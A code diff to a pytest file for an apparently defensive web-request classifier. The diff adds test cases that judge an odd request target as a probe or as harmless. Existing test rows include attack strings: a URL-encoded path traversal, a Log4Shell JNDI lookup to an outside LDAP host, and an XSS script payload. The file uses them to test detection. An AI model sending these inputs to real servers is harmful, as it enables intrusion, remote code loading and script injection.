@@ -5,6 +5,7 @@ from __future__ import annotations
 import polars as pl
 import pytest
 
+from floorwalker.events.requests import ODD_TARGET
 from floorwalker.features.danger import ATTACK, HARMLESS, PROBE, judge_targets
 
 
@@ -22,6 +23,8 @@ from floorwalker.features.danger import ATTACK, HARMLESS, PROBE, judge_targets
         ("/static/..%2F..%2Fetc/hosts", ATTACK),
         ("/?x=${jndi:ldap://203.0.113.9/a}", ATTACK),
         ("/search?q=%3Cscript%3Ealert(1)", ATTACK),
+        (ODD_TARGET, PROBE),
+        ("/" + ODD_TARGET, HARMLESS),
     ],
 )
 def test_targets_are_judged(target: str, danger: int) -> None:
